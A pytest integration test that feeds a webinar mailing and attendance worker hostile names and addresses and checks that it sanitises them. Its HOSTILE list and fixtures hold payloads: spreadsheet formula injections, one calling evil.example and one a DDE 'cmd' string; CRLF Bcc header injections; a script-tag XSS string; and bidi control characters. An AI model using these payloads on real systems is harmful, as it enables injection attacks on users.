"""A season of hostile data: Form rows, CSV rows and Zoom participants typed by an attacker.

Driven through ``webinar-worker once --now ...`` (``worker.cli.main``, what the console
script runs) against the Zoom and Google emulators and a real aiosmtpd server. Afterwards:
every mail parses, no header line passes 998 octets and no header was injected, no HTML
part carries a raw ``<script>``, the sheet holds text (no formula cells), certificates were
made for every attendee who earned one, and every good row was served.
"""
from __future__ import annotations

import csv
import io
import os
import re
from datetime import datetime, timedelta, timezone
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from integrations.google_auth import GoogleConfig, build_sheets_service, load_credentials
from integrations.sandbox.google_server import GoogleEmulator
from integrations.sandbox.smtp_server import SandboxSmtpServer
from integrations.sandbox.zoom_server import ZoomEmulator
from tests.helpers_settings import TEMPLATES
from worker.cli import main
from worker.store.state import StateStore

UTC = timezone.utc
CALENDAR = "webinar@group.calendar.google.com"
SHEET = "hostile-season"
FORM_TAB = "Sheet1"
SESSION = "webinar-kamis/2027-01-14"
START = datetime(2027, 1, 14, 1, 0, tzinfo=UTC)  # 09:00 WITA
HOSTILE = [
    'Eve ",victim@example.org,',
    "Budi\r\nBcc: all@example.org",
    '=IMPORTXML("http://evil.example/","//a")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "<script>alert('x')</script> Ani",
    "\u202eexe.GNP\u202c Siti \u200f",
    "😀🎉 Dewi 📚",
    "Panjang " + "A" * 10_000,
    'Nama; dengan, pemisah "kutip"\tdan tab',
    "Nul\x00 dan \x1b[31m warna \x85",
]
ALLOWED_HEADERS = {"from", "to", "subject", "date", "message-id", "list-id", "list-unsubscribe",
                   "list-unsubscribe-post", "content-language", "x-webinar-session", "x-webinar-kind",
                   "mime-version", "content-type", "reply-to", "content-transfer-encoding"}

SETTINGS = """\
series:
  id: webinar-kamis
  title: "Webinar <Kamis> & \\"Perpustakaan\\""
  organizer: Perpustakaan Kota
  contact: WA 0811
  weekday: kamis
  start_time: "09:00"
  duration_minutes: 90
  timezone: Asia/Makassar
  locale: id_ID
  first_date: 2027-01-14
  last_date: 2027-01-14
topics:
  - date: 2027-01-14
    topic: "Bedah Buku <b>&</b> Diskusi"
    speaker: Rahmat
    recording_url: https://video.example.org/rekaman?a=1&b=2
zoom:
  api_base_url: {zoom_api}
  oauth_url: {zoom_oauth}
google:
  calendar_id: {calendar}
  spreadsheet_id: {sheet}
  credentials_file: {key_file}
  api_endpoint: {google_root}
mail:
  sender_name: Perpustakaan Kota
  sender_address: webinar@perpustakaan.example
  unsubscribe_url: mailto:layanan@perpustakaan.example?subject=berhenti
  templates_dir: {templates}
  smtp:
    host: 127.0.0.1
    port: {smtp_port}
    security: none
    per_minute: 0
  recipients:
    inline:
      - email: inline@example.org
        name: "Inline\\r\\nBcc: x@example.org"
    csv_files: [daftar.csv]
    sheet_ranges: ["{form_tab}!A1:C"]
    unsubscribe_files: [berhenti.csv]
followup:
  min_minutes: 30
worker:
  state_file: state.db
"""


def csv_text(rows: list[list[str]]) -> str:
    """Rows as RFC 4180 CSV, the way a spreadsheet exports them."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


CSV_BAD_LINES = [3, 4, 6, 7, 16, 18]  # lines of daftar.csv that must be reported and skipped


def csv_people() -> tuple[str, list[str]]:
    """The CSV file (good rows with hostile names, broken lines among them) and its good addresses.

    A quoted field with a line break (HOSTILE[1]) spans two lines, and each is refused; so is
    the line with a NUL (HOSTILE[11]): those two people are reported, not served.
    """
    addresses = [f"csv{n:02d}@example.org" for n in range(len(HOSTILE))]
    rows = [["nama", "email", "grup"]] + [[name, addr, "umum"] for name, addr in zip(HOSTILE, addresses)]
    text = csv_text(rows[:4])  # lines 1-4 (HOSTILE[1] takes two)
    text += 'Eve ",victim@example.org,\r\n'  # 6: a bare quote
    text += '"Tidak ditutup,unclosed@example.org,umum\r\n'  # 7: a quote never closed
    text += csv_text(rows[4:])  # 8-16 (16: the NUL)
    text += "Rusak,rusak@example.org\r\nBcc: x@example.org,umum\r\n"  # 17 is a fine row; 18 has no address
    good = [a for n, a in enumerate(addresses) if n not in (1, 11)] + ["rusak@example.org"]
    return text, good


def form_rows() -> tuple[list[list[str]], list[str]]:
    """Google Form responses (timestamp, name, address) and the good addresses among them."""
    good = [f"form{n:02d}@example.org" for n in range(len(HOSTILE))]
    rows = [["Timestamp", "Nama lengkap", "Alamat email"]]
    rows += [[f"14/01/2027 08:{n:02d}:00", name, addr] for n, (name, addr) in enumerate(zip(HOSTILE, good))]
    rows += [["x", "Penyusup", "victim@example.org\r\nBcc: all@example.org"],
             ["x", "Panjang", "a" * 300 + "@example.org"],
             ["x", "Berhenti", "berhenti@example.org"]]
    return rows, good


def participants(links: dict[str, str]) -> list[dict]:
    """Zoom joins: list people with hostile names (and one who rejoins), guests, a broken address.

    As on the real Zoom, listed people come in through the personal link the worker registered for
    them (``links``: e-mail -> join_url) and Zoom shows no guest's e-mail; the broken address comes
    from a user of the host's own account, the one case where Zoom shows what was typed.
    """
    def stay(name, email, a, b, **extra):
        join = {"join_url": links[email]} if email in links else {}
        return {"name": name, "join_time": START + timedelta(minutes=a), "leave_time": START + timedelta(minutes=b),
                **join, **extra}

    people = [stay(name, f"form{n:02d}@example.org", 2, 80) for n, name in enumerate(HOSTILE)]
    people.append(stay(HOSTILE[0], "form00@example.org", 81, 88))  # rejoins
    people += [stay(name, "", 5, 70) for name in HOSTILE]  # guests: no address, only the name
    people.append(stay("Penyusup", "", 1, 89, user_email="victim@example.org\r\nBcc: all@example.org", internal=True))
    people.append(stay("Singkat", "csv00@example.org", 1, 10))  # under min_minutes: no thank-you
    return people


@pytest.fixture
def world(tmp_path, monkeypatch):
    with ZoomEmulator() as zoom, GoogleEmulator() as google, SandboxSmtpServer() as smtp:
        key = tmp_path / "service-account.json"
        google.write_service_account_key(key)
        key.chmod(0o600)
        google.share_calendar(CALENDAR)
        google.share_spreadsheet(SHEET, title="Kehadiran")
        rows, _ = form_rows()
        config = GoogleConfig(credentials_file=str(key), calendar_id=CALENDAR, spreadsheet_id=SHEET,
                              api_endpoint=google.root_url)
        service = build_sheets_service(config, load_credentials(config, ["https://www.googleapis.com/auth/spreadsheets"]))
        service.spreadsheets().values().batchUpdate(spreadsheetId=SHEET, body={
            "valueInputOption": "RAW", "data": [{"range": f"{FORM_TAB}!A1", "values": rows}]}).execute()
        (tmp_path / "daftar.csv").write_bytes(csv_people()[0].encode("utf-8"))
        (tmp_path / "berhenti.csv").write_text('email,alasan\r\nberhenti@example.org,"tidak ""tertarik"", maaf"\r\n'
                                               '"csv03@example.org,tanda kutip rusak\r\n', encoding="utf-8")
        path = tmp_path / "settings.yaml"
        path.write_text(SETTINGS.format(zoom_api=zoom.api_base_url, zoom_oauth=zoom.oauth_url, calendar=CALENDAR,
                                        sheet=SHEET, key_file=key, google_root=google.root_url, templates=TEMPLATES,
                                        smtp_port=smtp.port, form_tab=FORM_TAB), encoding="utf-8")
        for name in list(os.environ):
            if name.startswith(("ZOOM_", "SMTP_", "GOOGLE_")):
                monkeypatch.delenv(name)
        monkeypatch.setenv("ZOOM_ACCOUNT_ID", zoom.account_id)
        monkeypatch.setenv("ZOOM_CLIENT_ID", zoom.client_id)
        monkeypatch.setenv("ZOOM_CLIENT_SECRET", zoom.client_secret)
        yield path, zoom, google, smtp


def tick_until_idle(path: Path, moment: str, capsys) -> str:
    """``once --now moment`` until it has nothing to do (at most 8 runs: a bounded loop)."""
    output = ""
    for _ in range(8):
        code = main(["once", "--settings", str(path), "--now", moment])
        out = capsys.readouterr().out
        output += out
        assert code == 0, out
        if "nothing to do" in out or "done" not in out:
            return output
    raise AssertionError(f"still busy after 8 ticks at {moment}:\n{output}")


def header_block(data: bytes) -> list[bytes]:
    head = data.split(b"\r\n\r\n", 1)[0] if b"\r\n\r\n" in data else data.split(b"\n\n", 1)[0]
    return head.replace(b"\r\n", b"\n").split(b"\n")


def test_a_hostile_season(world, capsys):
    path, zoom, google, smtp = world
    assert main(["check", "--offline-ok", "--settings", str(path)]) == 0
    checked = capsys.readouterr().out
    reported = {int(line) for line in re.findall(r"daftar\.csv:(\d+): ", checked)}
    assert reported == set(CSV_BAD_LINES), checked

    tick_until_idle(path, "2027-01-01T08:00+08:00", capsys)  # meeting and event
    tick_until_idle(path, "2027-01-07T09:30+08:00", capsys)  # invitations
    with StateStore(path.parent / "state.db") as store:
        meeting_id = store.session(SESSION).meeting_id
    zoom.end_meeting(meeting_id, started_at=START, ended_at=START + timedelta(minutes=90))
    links = {r["email"]: r["join_url"] for r in zoom.registrants(meeting_id)}
    zoom.add_participants(meeting_id, participants(links))
    tick_until_idle(path, "2027-01-14T11:15+08:00", capsys)  # attendance, sheet, thank-you mails

    # -- every mail parses, no header injected, no line over 998 octets, no raw <script> in HTML
    csv_good = csv_people()[1]
    form_good = form_rows()[1]
    blocked = {"berhenti@example.org", "csv03@example.org"}
    good = (set(csv_good) | set(form_good) | {"inline@example.org"}) - blocked
    invited, thanked, certificates = set(), set(), 0
    for received in smtp.messages:
        assert max(len(line) for line in header_block(received.data)) <= 998
        message = message_from_bytes(received.data, policy=policy.default)
        names = {k.lower() for k in message.keys()}
        assert names <= ALLOWED_HEADERS, names - ALLOWED_HEADERS
        assert len(message.get_all("To")) == 1 and len(message["To"].addresses) == 1
        to = message["To"].addresses[0]
        assert received.rcpt_tos == (to.addr_spec,) and to.addr_spec in good
        # (the email package may add spaces where it splits a long encoded word, so count the rest)
        assert "\r" not in to.display_name and "\n" not in to.display_name
        assert len(to.display_name.replace(" ", "")) <= 200
        assert "\n" not in str(message["Subject"])
        html = message.get_body(("html",)).get_content()
        assert "<script" not in html.lower() and "javascript:" not in html.lower()
        kind = message["X-Webinar-Kind"]
        if kind == "invitation":
            invited.add(to.addr_spec)
        if kind == "thankyou":
            thanked.add(to.addr_spec)
            pdfs = [p for p in message.iter_attachments() if p.get_content_type() == "application/pdf"]
            assert len(pdfs) == 1 and pdfs[0].get_content().startswith(b"%PDF")
            certificates += 1
    assert invited == good  # every good row served, once each
    assert sum(1 for m in smtp.messages if message_from_bytes(m.data, policy=policy.default)["X-Webinar-Kind"]
               == "invitation") == len(good)
    assert "victim@example.org" not in {r for m in smtp.messages for r in m.rcpt_tos}
    assert thanked == {f"form{n:02d}@example.org" for n in range(len(HOSTILE))}
    assert certificates == len(thanked)

    # -- the sheet holds text: no formula cells, names cleaned and capped
    tab = "2027-01-14"
    assert google.formula_cells(SHEET, tab) == []
    values = google.sheet_values(SHEET, tab)
    assert values[0][:3] == ["Nama terdaftar", "Nama di Zoom", "Email"]
    names = [row[0] for row in values[1:]] + [row[1] for row in values[1:]]  # registered and Zoom names
    assert HOSTILE[2] in names  # stored as the text it is (RAW), not run
    for name in names:
        assert isinstance(name, str) and len(name) <= 200
        assert not any(ch in name for ch in "\r\n\x00\x1b\u202e\u202c\u200f")
    assert all("\r" not in str(cell) and "\n" not in str(cell) for row in values for cell in row)
    emails = {row[2] for row in values[1:] if len(row) > 2}
    assert not any("victim" in str(e) for e in emails)
